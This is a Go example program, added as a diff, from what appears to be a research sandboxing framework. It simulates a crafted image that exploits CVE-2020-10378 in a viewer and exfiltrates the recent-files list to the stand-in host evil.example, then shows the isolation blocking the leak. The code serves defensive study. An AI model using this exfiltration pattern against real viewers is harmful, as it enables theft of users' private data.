@@ -1,0 +1,109 @@
+// Image viewer information-leak case study (§5.4.2, MComix3).
+//
+// The viewer keeps recently opened file names — sensitive data — in host
+// memory and in the GUI subsystem. A crafted image exploits
+// CVE-2020-10378 during loading to read the recent list and exfiltrate it
+// to evil.example. Unprotected, the names leak; under FreePart the exploit
+// runs in the loading agent, which can neither read the host's list nor
+// pass the seccomp filter to reach the network.
+//
+//	go run ./examples/imageviewer
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"freepart.dev/freepart/internal/analysis"
+	"freepart.dev/freepart/internal/apps"
+	"freepart.dev/freepart/internal/attack"
+	"freepart.dev/freepart/internal/core"
+	"freepart.dev/freepart/internal/framework"
+	"freepart.dev/freepart/internal/framework/all"
+	"freepart.dev/freepart/internal/kernel"
+)
+
+func main() {
+	fmt.Println("=== unprotected viewer ===")
+	view(false)
+	fmt.Println()
+	fmt.Println("=== FreePart viewer ===")
+	view(true)
+}
+
+func view(protected bool) {
+	app := apps.ViewerApp()
+	k := kernel.New()
+	reg := all.Registry()
+	var ex core.Executor
+	var rt *core.Runtime
+	if protected {
+		cat := analysis.New(reg, nil).Categorize()
+		var err error
+		rt, err = core.New(k, reg, cat, core.Default())
+		if err != nil {
+			log.Fatal(err)
+		}
+		defer rt.Close()
+		ex = rt
+	} else {
+		ex = core.NewDirect(k, reg)
+	}
+	e := apps.NewEnv(k, ex, app)
+	viewer, err := apps.NewViewer(e)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// Browse a few (private) images.
+	for _, p := range e.Inputs[:3] {
+		if err := viewer.Open(e, p); err != nil {
+			log.Fatal(err)
+		}
+	}
+	recent, _ := viewer.Recent()
+	fmt.Printf("recent list (%d bytes): %q...\n", len(recent), firstLine(recent))
+
+	alog := &attack.Log{}
+	if rt != nil {
+		rt.OnExploit = alog.Handler()
+	} else {
+		ex.(*core.Direct).Ctx.OnExploit = alog.Handler()
+	}
+
+	// The crafted "comic page".
+	k.FS.WriteFile(e.Dir+"/page.img",
+		attack.Exfiltrate("CVE-2020-10378", viewer.RecentRegion.Base, 32, "evil.example"))
+	_, _, aerr := e.Call("cv.imread", framework.Str(e.Dir+"/page.img"))
+	fmt.Printf("exploit: %v\n", shortErr(aerr))
+
+	sent := k.Net.SentTo("evil.example")
+	if len(sent) > 0 {
+		fmt.Printf("LEAKED to evil.example: %q\n", sent[0].Data)
+	} else {
+		fmt.Println("nothing reached evil.example")
+	}
+	if out := alog.Last(); out != nil {
+		fmt.Printf("attacker read: %q, crashed=%v\n", out.Leaked, out.Crashed)
+	}
+}
+
+func firstLine(s string) string {
+	for i, c := range s {
+		if c == '\n' {
+			return s[:i]
+		}
+	}
+	return s
+}
+
+func shortErr(err error) string {
+	if err == nil {
+		return "returned normally"
+	}
+	s := err.Error()
+	if len(s) > 60 {
+		s = s[:60] + "..."
+	}
+	return s
+}
